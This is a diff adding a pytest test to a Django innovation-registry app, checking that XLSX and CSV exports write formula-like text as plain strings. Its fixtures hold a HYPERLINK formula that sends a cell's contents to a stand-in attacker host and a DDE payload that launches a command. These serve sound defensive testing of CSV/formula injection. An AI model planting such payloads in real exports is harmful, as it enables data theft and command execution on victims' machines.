@@ -1,11 +1,14 @@
 """The operator and reviewer pages: lists, queues, the detail page, actions without JavaScript."""
 
+import csv
 import datetime
+import io
 import json
 from pathlib import Path
 
 import pytest
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from satu.core.testing.personas import grant
 from satu.innovations import deadlines, sections, services
@@ -138,6 +141,34 @@ def test_filters_narrow_the_list(client, operator, agency_a):
     assert [i.name for i in page] == ["Antrean Puskesmas"]
     exported = client.get(reverse("innovations:export", args=["json"]) + "?q=sampah")
     assert [item["nama"] for item in json.loads(exported.content)] == ["Bank Sampah"]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Lihat bukti")'
+
+
+def test_the_exports_write_formula_like_text_as_text(client, operator, agency_a):
+    innovation = services.create_innovation(
+        operator, agency_a, complete_values(name=FORMULA, goals="-2+3+cmd|' /C calc'!A0")
+    )
+    client.force_login(operator)
+
+    xlsx = client.get(reverse("innovations:export", args=["xlsx"]))
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    cells = {cell.value: cell for cell in sheet[2]}
+    assert cells[FORMULA].data_type == "s"
+    assert cells["-2+3+cmd|' /C calc'!A0"].data_type == "s"
+    assert cells[innovation.pk].data_type == "n"  # numbers stay numbers
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+    exported = client.get(reverse("innovations:export", args=["csv"]))
+    [record] = csv.DictReader(io.StringIO(b"".join(exported).decode("utf-8-sig")))
+    assert record["nama"] == "'" + FORMULA
+    assert record["tujuan"] == "'-2+3+cmd|' /C calc'!A0"
+
+    profile = client.get(reverse("innovations:profile_export", args=[innovation.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(profile.content)).active
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+    assert FORMULA in [cell.value for row in sheet.iter_rows() for cell in row]
 
 
 def test_the_profile_download_has_every_field(client, operator, draft):
